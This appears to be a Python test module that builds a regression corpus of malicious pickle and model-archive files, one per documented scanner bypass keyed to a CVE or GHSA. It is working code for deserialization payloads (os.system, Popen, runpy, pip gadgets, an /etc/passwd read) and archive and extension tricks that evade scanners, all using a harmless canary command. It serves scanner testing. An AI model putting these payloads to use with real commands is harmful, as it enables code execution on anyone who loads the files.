"""Regression corpus: one malicious sample per public scanner bypass, built at test time.

Every recipe is keyed by the CVE / GHSA / report it reproduces (see the shared reference
`model-scanning.md`, section 6); payloads only ever name a canary command or file, and nothing
here is executed. Also used by bench/scan.py, so this module has no test-framework imports.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import struct
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from archives import raw_zip, tar_bytes, torch_zip, zip_bytes
from pickles import call, canary_call, g, proto, s, sg, tup, wrap

CANARY = "aisec-canary"
CMD = f"touch /tmp/{CANARY}"


@dataclass(frozen=True)
class Recipe:
    id: str
    technique: str
    build: Callable[[], bytes]
    filename: str = "model.pkl"
    needs: str | None = None  # optional module needed to build it

    def write(self, folder: Path) -> Path:
        path = folder / self.id.replace("/", "_").replace(":", "_") / self.filename
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(self.build())
        return path


def os_system(protocol: int = 2) -> bytes:
    return wrap(call(g("os", "system"), s(CMD)), protocol)


def memo_stack_global() -> bytes:
    # module and name go through the memo before STACK_GLOBAL reads them back
    body = (
        s("os")
        + b"\x94"
        + s("system")
        + b"\x94"
        + b"00"  # MEMOIZE both, POP both
        + b"h\x00h\x01\x93"
        + tup(s(CMD))
        + b"R"
    )
    return proto(4) + body + b"."


def broken_after_payload() -> bytes:
    return proto(2) + call(g("os", "system"), s(CMD)) + b"\xff\xfe garbage"


def second_pickle() -> bytes:
    return wrap(b"}") + os_system()


def npy_object(payload: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


def legacy_torch(model: bytes) -> bytes:
    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    return magic + wrap(b"M\xe9\x03") + wrap(b"}") + model + wrap(b"]") + b"\x00" * 64


def joblib_object_array(payload: bytes) -> bytes:
    wrapper = (
        g("joblib.numpy_pickle", "NumpyArrayWrapper")
        + b")\x81}"
        + s("shape")
        + b"K\x01\x85"
        + s("order")
        + s("C")
        + s("dtype")
        + call(g("numpy", "dtype"), s("O8"), b"\x89", b"\x88")
        + tup(
            b"K\x03", s("|"), b"N", b"N", b"N", b"J\xff\xff\xff\xff", b"J\xff\xff\xff\xff", b"K\x3f"
        )
        + b"b"
        + b"u"
        if False
        else b""
    )
    state = (
        b"}("
        + s("shape")
        + b"K\x01\x85"
        + s("order")
        + s("C")
        + s("dtype")
        + call(g("numpy", "dtype"), s("O8"), b"\x89", b"\x88")
        + tup(
            b"K\x03", s("|"), b"N", b"N", b"N", b"J\xff\xff\xff\xff", b"J\xff\xff\xff\xff", b"K\x3f"
        )
        + b"b"
        + b"u"
    )
    del wrapper
    head = proto(4) + g("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"
    return head + payload + b"."


def skops_schema(module: str, name: str) -> bytes:
    node = {"__class__": name, "__module__": module, "__loader__": "FunctionNode", "__id__": 2}
    tree = {
        "__class__": "FunctionTransformer",
        "__module__": "sklearn.preprocessing._function_transformer",
        "__loader__": "ObjectNode",
        "content": {
            "__class__": "dict",
            "__module__": "builtins",
            "__loader__": "DictNode",
            "content": {"func": node},
        },
    }
    return json.dumps(tree).encode()


def seven_zip(members: list[tuple[str, bytes]]) -> bytes:
    import py7zr

    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as archive:
        for name, data in members:
            archive.writestr(data, name)
    return buf.getvalue()


def _gadget(callable_path: str, *args: str) -> Callable[[], bytes]:
    module, _, name = callable_path.partition(":")
    return lambda: canary_call(module, name, *args)


RECIPES: list[Recipe] = [
    Recipe(
        "picklescan-memo-ctf-2023", "STACK_GLOBAL operands fed through the memo", memo_stack_global
    ),
    Recipe(
        "nullifAI-broken-pickle",
        "payload first, then a deliberately broken stream",
        broken_after_payload,
    ),
    Recipe(
        "nullifAI-7z",
        "PyTorch archive packed with 7z, broken pickle inside",
        lambda: seven_zip([("archive/data.pkl", broken_after_payload())]),
        filename="model.pt",
        needs="py7zr",
    ),
    Recipe(
        "CVE-2025-1716", "pip.main installs an attacker package", _gadget("pip:main", "install")
    ),
    Recipe(
        "CVE-2025-1889",
        "malicious pickle under a non-standard extension",
        os_system,
        filename="weights.cfg",
    ),
    Recipe(
        "CVE-2025-1944",
        "ZIP local header name differs from the central directory",
        lambda: raw_zip(
            [("archive/data.pkl", os_system())],
            local_names={"archive/data.pkl": "archive/other.txt"},
        ),
        filename="model.pt",
    ),
    Recipe(
        "CVE-2025-1945-0x1",
        "ZIP flag bit 0x1 (encrypted) set on a stored member",
        lambda: raw_zip([("archive/data.pkl", os_system())], flags=0x1),
        filename="m.pt",
    ),
    Recipe(
        "CVE-2025-1945-0x20",
        "ZIP flag bit 0x20 set",
        lambda: raw_zip([("archive/data.pkl", os_system())], flags=0x20),
        filename="m.pt",
    ),
    Recipe(
        "CVE-2025-1945-0x40",
        "ZIP flag bit 0x40 set",
        lambda: raw_zip([("archive/data.pkl", os_system())], flags=0x40),
        filename="m.pt",
    ),
    Recipe(
        "GHSA-9gvj-pp9x-gcfr",
        "parse-logic flaw: payload in the second pickle of a stream",
        second_pickle,
    ),
    Recipe(
        "CVE-2025-10155",
        "extension bypass: a pickle named .safetensors",
        os_system,
        filename="model.safetensors",
    ),
    Recipe(
        "CVE-2025-10156",
        "ZIP member with a wrong CRC",
        lambda: raw_zip([("archive/data.pkl", os_system())], bad_crc=True),
        filename="m.pt",
    ),
    Recipe(
        "CVE-2025-10157",
        "dangerous callable reached through a sub-module / subclass",
        _gadget("asyncio.unix_events:_UnixSubprocessTransport._start"),
    ),
    Recipe(
        "GHSA-46h3-operator-methodcaller",
        "_operator.methodcaller on an imported module",
        lambda: wrap(
            call(
                call(g("_operator", "methodcaller"), s("system"), s(CMD)),
                call(g("builtins", "__import__"), s("os")),
            )
        ),
    ),
    Recipe(
        "GHSA-operator-itemgetter",
        "_operator.itemgetter gadget",
        _gadget("_operator:itemgetter", "x"),
    ),
    Recipe(
        "GHSA-pkgutil-resolve_name",
        "pkgutil.resolve_name reaches any callable",
        lambda: wrap(call(call(g("pkgutil", "resolve_name"), s("os:system")), s(CMD))),
    ),
    Recipe(
        "GHSA-uuid-gadget",
        "uuid._get_command_stdout runs a command",
        _gadget("uuid:_get_command_stdout", "sh"),
    ),
    Recipe("GHSA-venv-gadget", "venv.create", _gadget("venv:create", "/tmp/x")),
    Recipe("GHSA-io-FileIO", "_io.FileIO opens files", _gadget("_io:FileIO", "/tmp/x", "w")),
    Recipe(
        "GHSA-logging-FileHandler",
        "logging.FileHandler writes files",
        _gadget("logging:FileHandler", "/tmp/x"),
    ),
    Recipe(
        "GHSA-numpy-f2py", "numpy.f2py eval gadget", _gadget("numpy.f2py.crackfortran:myeval", "1")
    ),
    Recipe(
        "GHSA-cloudpickle-CodeType",
        "types.CodeType / FunctionType reconstruction",
        lambda: wrap(call(g("types", "FunctionType"), call(g("types", "CodeType"), s("x")), b"}")),
    ),
    *(
        Recipe(f"picklescan-gadget:{c}", f"deny-list gap {c}", _gadget(c, "x"))
        for c in (
            "cProfile:run",
            "cProfile:runctx",
            "profile:Profile.run",
            "trace:Trace.run",
            "idlelib.pyshell:ModifiedInterpreter.runcode",
            "lib2to3.pgen2.driver:load_grammar",
            "doctest:debug_script",
            "ensurepip:_run_pip",
            "code:InteractiveInterpreter.runcode",
            "torch.utils.bottleneck.__main__:run_cprofile",
        )
    ),
    *(
        Recipe(f"saferpickle-18:{c}", f"deny-list false negative {c}", _gadget(c, "x"))
        for c in (
            "torch.utils.collect_env:run",
            "multiprocessing.util:spawnv_passfds",
            "mlflow.projects.backend.local:_run_entry_point",
            "pandas:read_csv",
        )
    ),
    Recipe("GHSA-q5qq-mvfm-j35x", "runpy.run_path", _gadget("runpy:run_path", "/tmp/x.py")),
    Recipe(
        "GHSA-mxhj-88fx-4pcv",
        "callable invoked through OBJ instead of REDUCE",
        lambda: proto(2) + b"(" + g("os", "system") + s(CMD) + b"o.",
    ),
    Recipe("GHSA-5cxw-w2xg-2m8h", "platform module gadget", _gadget("platform:_syscmd_file", "x")),
    Recipe(
        "GHSA-r48f-3986-4f9c:linecache",
        "linecache reads files",
        _gadget("linecache:getlines", "/etc/passwd"),
    ),
    Recipe("GHSA-r48f-3986-4f9c:gc", "gc.get_referrers", _gadget("gc:get_referrers", "x")),
    Recipe("GHSA-r48f-3986-4f9c:difflib", "difflib gadget", _gadget("difflib:restore", "x")),
    Recipe(
        "GHSA-cffv-grgg-g429",
        "allow-list shadowing: dotted path out of an allowed package",
        _gadget("torch.nn.modules.linear:torch.load", "x"),
    ),
    Recipe(
        "GHSA-5j3x-jp52-966f",
        "dotted name in STACK_GLOBAL reaching os.system",
        _gadget("email.utils:os.system", CMD),
    ),
    Recipe(
        "GHSA-6ggj-6f2q-f7mx", "private stdlib module", _gadget("_posixsubprocess:fork_exec", "x")
    ),
    Recipe("GHSA-fphw-536r-4p88", "pure-Python pickle fallback", _gadget("pickle:_loads", "x")),
    Recipe(
        "fickling-pop-discard",
        "REDUCE result discarded with POP",
        lambda: proto(2) + call(g("os", "system"), s(CMD)) + b"0N.",
    ),
    Recipe(
        "protocol0-global",
        "protocol 0 text pickle (no PROTO magic)",
        lambda: b"cos\nsystem\n(S'" + CMD.encode() + b"'\ntR.",
        filename="notes.txt",
    ),
    Recipe(
        "inst-opcode",
        "INST opcode imports and calls at once",
        lambda: b"(S'" + CMD.encode() + b"'\nios\nsystem\n.",
    ),
    Recipe(
        "newobj-ex",
        "NEWOBJ_EX on a dangerous class",
        lambda: proto(4) + sg("subprocess", "Popen") + tup(s(CMD)) + b"}\x92.",
    ),
    Recipe(
        "getattr-indirection",
        "builtins.getattr(__import__('os'), 'system')",
        lambda: wrap(
            call(
                call(
                    g("builtins", "getattr"),
                    call(g("builtins", "__import__"), s("os")),
                    s("system"),
                ),
                s(CMD),
            )
        ),
    ),
    Recipe(
        "nested-pickle-loads",
        "pickle.loads of an embedded pickle",
        lambda: wrap(call(g("pickle", "loads"), b"C" + bytes([len(os_system())]) + os_system())),
    ),
    Recipe(
        "ext-opcode",
        "EXT1 copyreg extension registry reference",
        lambda: proto(2) + b"\x82\x01" + tup(s("x")) + b"R.",
    ),
    Recipe(
        "unknown-callable",
        "deny-list only scanners miss unknown callables",
        _gadget("attacker_pkg.helpers:fetch_weights", "x"),
    ),
    Recipe(
        "modelscan-nested-zip",
        "malicious pickle inside a zip inside a zip",
        lambda: zip_bytes([("inner.zip", zip_bytes([("archive/data.pkl", os_system())]))]),
        filename="bundle.zip",
    ),
    Recipe(
        "zip-prepended-data",
        "archive with data prepended (offsets shifted)",
        lambda: raw_zip([("archive/data.pkl", os_system())], prepend=b"JUNK" * 100),
        filename="m.pt",
    ),
    Recipe(
        "zip-no-central-directory",
        "central directory removed",
        lambda: raw_zip([("archive/data.pkl", os_system())], drop_central=True),
        filename="m.pt",
    ),
    Recipe(
        "zip-duplicate-names",
        "benign and malicious members share one name",
        lambda: raw_zip([("archive/data.pkl", wrap(b"}")), ("archive/data.pkl", os_system())]),
        filename="m.pt",
    ),
    Recipe(
        "torch-zip-data-pkl",
        "malicious data.pkl in a torch.save layout",
        lambda: torch_zip(os_system()),
        filename="pytorch_model.bin",
    ),
    Recipe(
        "torch-legacy",
        "legacy stacked-pickle torch file with payload in the model pickle",
        lambda: legacy_torch(os_system()),
        filename="model.pth",
    ),
    Recipe(
        "npy-object-array",
        "object .npy whose pickle runs a command (dns_exfiltration.npy)",
        lambda: npy_object(os_system()),
        filename="arr.npy",
    ),
    Recipe(
        "npz-object-array",
        "npz holding a malicious object .npy",
        lambda: zip_bytes([("x.npy", npy_object(os_system()))]),
        filename="arrs.npz",
    ),
    Recipe(
        "joblib-object-array",
        "joblib wrapper whose in-stream object array is malicious",
        lambda: joblib_object_array(os_system()),
        filename="model.joblib",
    ),
    Recipe(
        "tar-member",
        "pickle inside a tar",
        lambda: tar_bytes([("m/data.pkl", os_system())]),
        filename="model.tar",
    ),
    Recipe(
        "tar-gz-member",
        "pickle inside a tar.gz",
        lambda: tar_bytes([("m/data.pkl", os_system())], "w:gz"),
        filename="model.tgz",
    ),
    Recipe(
        "gzip-pickle",
        "gzip-compressed pickle",
        lambda: gzip.compress(os_system()),
        filename="model.pkl.gz",
    ),
    Recipe(
        "bz2-pickle",
        "bzip2-compressed pickle (joblib compress)",
        lambda: bz2.compress(os_system()),
        filename="model.joblib",
    ),
    Recipe(
        "xz-pickle",
        "xz-compressed pickle",
        lambda: lzma.compress(os_system()),
        filename="model.joblib",
    ),
    Recipe(
        "lzma-alone-pickle",
        "legacy .lzma pickle (joblib compress='lzma')",
        lambda: lzma.compress(os_system(), format=lzma.FORMAT_ALONE),
        filename="m.joblib",
    ),
    Recipe(
        "skops-untrusted-function",
        "skops schema naming os.system as a FunctionNode",
        lambda: zip_bytes([("schema.json", skops_schema("os", "system"))]),
        filename="model.skops",
    ),
    Recipe(
        "build-on-callable",
        "BUILD rewrites attributes of an imported class",
        lambda: wrap(g("collections", "OrderedDict") + b"}" + s("__reduce__") + b"Ns" + b"b"),
    ),
]
